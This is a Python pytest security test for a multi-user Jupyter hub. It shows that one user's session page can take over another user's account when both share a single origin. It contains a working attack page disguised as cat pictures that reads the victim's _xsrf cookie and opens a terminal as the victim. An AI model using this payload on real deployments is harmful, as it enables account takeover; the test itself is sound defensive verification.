"""The account takeover through a shared origin (issue 9, finding 1), performed in Chromium with
two real accounts, on one origin and on one origin per user.

Hana (the attacker) runs her own code in her own session, as every user may: a jupyter-server
extension loaded from her own ``~/.jupyter`` config serves a page at her session's URL, without
any authentication. Hugo (the victim) signs in with the real login form, opens a link to that
page and clicks its button. The page then

1. opens Hugo's dashboard in a new window (a navigation: Hugo's cookies are sent),
2. reads Hugo's ``_xsrf`` cookie from that window's ``document.cookie``,
3. POSTs to Hugo's ``api/ondemand/shell/terminals`` with that token.

On one shared origin (the demo's default) every step works: a terminal as Hugo, created by
Hana's page. That is the documented limit of that mode (docs/security.md, ``doctor`` warns);
the test proves the limit is real, so nobody mistakes the demo for a deployment. With one origin
per user (``subdomain_host``) every step fails, asserted in the browser and on Hugo's PUN."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from harness import (
    STAGE,
    Hub,
    api_token,
    ensure_account,
    run,
    running_hub,
    server_model,
    sign_in_with_form,
    wait_for,
)

HANA, HUGO = "odt-hana", "odt-hugo"
PASSWORDS = {HANA: "Hana-pw-31!", HUGO: "Hugo-pw-32!"}
SESSION = "lab"

#: Hana's server extension: a page served by her own session server without authentication.
HOSTILE_EXTENSION = '''
"""Hana's own jupyter-server extension (tests/e2e/test_hostile_origin.py): the attack page."""
import json
from tornado import web

PAGE = """<!doctype html><html><head><title>Cute cat pictures</title></head><body>
<button id="go">Show me the cats</button>
<script>
const victim = %(victim)s;
document.getElementById("go").onclick = () => {
  const w = window.open(victim.dashboard, "_blank");
  const result = {steps: []};
  let tries = 0;
  const timer = setInterval(async () => {
    tries += 1;
    let doc;
    try {
      doc = w.document;
      if (!doc || doc.readyState !== "complete" || !doc.location.pathname.endsWith("/dashboard")) {
        if (tries < 100) return;
      }
      result.steps.push("read-window");
    } catch (e) {
      if (tries < 25) return;  // cross-origin: give the window time to load, then report
      result.steps.push("window-refused:" + e.name);
    }
    clearInterval(timer);
    let token = null;
    try {
      const m = doc && doc.cookie.match(/(?:^|; )_xsrf=([^;]+)/);
      token = m ? decodeURIComponent(m[1]) : null;
    } catch (e) { result.steps.push("cookie-refused:" + e.name); }
    result.token = token;
    try {
      const r = await fetch(victim.terminals, {
        method: "POST", credentials: "include",
        headers: token ? {"X-XSRFToken": token, "Content-Type": "application/json"} : {},
        body: "{}", mode: token ? "cors" : "no-cors"});
      result.status = r.status;
      result.body = await r.text();
    } catch (e) { result.fetchError = e.name; }
    window.result = result;
    document.title = "done";
  }, 200);
};
</script></body></html>"""


class Page(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.write(PAGE % {"victim": self.settings["hostile_victim"]})


def _jupyter_server_extension_points():
    return [{"module": "hostile_ext"}]


def _load_jupyter_server_extension(app):
    victim = json.dumps(app.config.HostileExt.victim)
    app.web_app.settings["hostile_victim"] = victim
    app.web_app.add_handlers(".*$", [(app.base_url + "cats", Page)])
'''


@pytest.fixture(scope="module")
def accounts() -> Iterator[dict]:
    for name, password in PASSWORDS.items():
        ensure_account(name, password)
    yield {name: pwd.getpwnam(name) for name in PASSWORDS}
    for name in PASSWORDS:
        run(STAGE, "pun", "stop", "--user", name, check=False)


def plant_extension(entry: pwd.struct_passwd, victim: dict) -> Path:
    """Hana's ~/.jupyter: her extension and the config that loads it (her own files)."""
    config_dir = Path(entry.pw_dir) / ".jupyter"
    config_dir.mkdir(exist_ok=True)
    (config_dir / "hostile_ext.py").write_text(HOSTILE_EXTENSION)
    (config_dir / "jupyter_server_config.py").write_text(
        textwrap.dedent(f"""\
            import os, sys
            sys.path.insert(0, os.path.expanduser("~/.jupyter"))
            c.ServerApp.jpserver_extensions.update({{"hostile_ext": True}})
            c.HostileExt.victim = {json.dumps(victim)}
            """)
    )
    for path in (config_dir, *config_dir.iterdir()):
        os.chown(path, entry.pw_uid, entry.pw_gid)
    return config_dir


@pytest.fixture(params=["one-origin", "per-user-origins"])
def portal(request, accounts) -> Iterator[tuple[Hub, str]]:
    """A hub in either mode, with Hana's session running her extension; the mode's name."""
    mode = request.param
    for name in PASSWORDS:  # PUNs of the other mode's hub carry that hub's URLs and tokens
        run(STAGE, "pun", "stop", "--user", name, check=False)
    clusters = Path(f"/var/tmp/ondemand-hub-test-{os.getpid()}-hostile-clusters.d")
    clusters.mkdir(exist_ok=True)  # empty: the session runs on the built-in local cluster
    env = {"ONDEMAND_HUB_CLUSTERS_DIR": str(clusters)}
    config_dir = None
    with running_hub(f"hostile-{mode}", subdomains=mode != "one-origin", env=env) as hub:
        victim_base = f"{hub.user_url(HUGO)}/user/{HUGO}/"
        victim = {
            "dashboard": victim_base + "dashboard",
            "terminals": victim_base + "api/ondemand/shell/terminals",
        }
        config_dir = plant_extension(accounts[HANA], victim)
        s, _ = hub.login(HANA, PASSWORDS[HANA])
        token = api_token(hub, s, HANA, "test_hostile_origin")
        r = requests.post(
            f"{hub.url}/hub/api/users/{HANA}/servers/{SESSION}",
            json={"user_options": {"app": "jupyter", "cluster": "local", "bc_num_hours": 1}},
            headers=token,
            timeout=30,
        )
        assert r.status_code in (201, 202), r.text
        try:
            wait_for(lambda: server_model(hub, token, HANA, SESSION).get("ready"), 90, "ready", hub)
            yield hub, mode
        finally:
            requests.delete(
                f"{hub.url}/hub/api/users/{HANA}/servers/{SESSION}",
                json={"remove": True},
                headers=token,
                timeout=60,
            )
            shutil.rmtree(config_dir, ignore_errors=True)
            shutil.rmtree(clusters, ignore_errors=True)


def hugos_terminals(hub: Hub) -> list[str]:
    """The terminals Hugo's PUN runs, asked with a token of Hugo's (not through a browser)."""
    s, _ = hub.login(HUGO, PASSWORDS[HUGO])
    hub.open_dashboard(s, HUGO)
    token = api_token(hub, s, HUGO, "test_hostile_origin")
    r = requests.get(f"{hub.user_url(HUGO)}/user/{HUGO}/api/terminals", headers=token, timeout=30)
    assert r.status_code == 200, r.text
    return sorted(t["name"] for t in r.json())


def test_a_page_of_another_users_session_takes_over_the_account_only_on_one_origin(portal, browser):
    hub, mode = portal
    before = hugos_terminals(hub)
    context = browser.new_context()
    page = context.new_page()
    sign_in_with_form(page, hub, HUGO, PASSWORDS[HUGO])
    page.goto(f"{hub.user_url(HANA)}/user/{HANA}/{SESSION}/cats")  # the link Hana sent
    assert page.title() == "Cute cat pictures"
    with context.expect_page(timeout=20_000) as popup:
        page.get_by_role("button", name="Show me the cats").click()
    popup.value.wait_for_load_state()
    page.wait_for_function("document.title === 'done'", timeout=30_000)
    result = page.evaluate("window.result")
    after = hugos_terminals(hub)
    new = sorted(set(after) - set(before))
    context.close()

    if mode == "one-origin":
        # THE DOCUMENTED LIMIT of one shared origin: the attack works, step by step.
        assert result["steps"] == ["read-window"], result
        assert result["token"], result
        assert result["status"] == 201, result
        assert json.loads(result["body"])["name"] in new, (result, new)
        for name in new:  # the terminal Hana's page made as Hugo: end it
            s, _ = hub.login(HUGO, PASSWORDS[HUGO])
            hub.open_dashboard(s, HUGO)
            token = api_token(hub, s, HUGO, "cleanup")
            requests.delete(
                f"{hub.user_url(HUGO)}/user/{HUGO}/api/terminals/{name}",
                headers=token,
                timeout=30,
            )
    else:
        # one origin per user: Hugo's window cannot be read, no token, no terminal
        assert result["steps"] == ["window-refused:SecurityError"], result
        assert result["token"] is None, result
        assert result.get("status", 0) in (0, 403), result  # an opaque or refused reply
        assert new == [], new
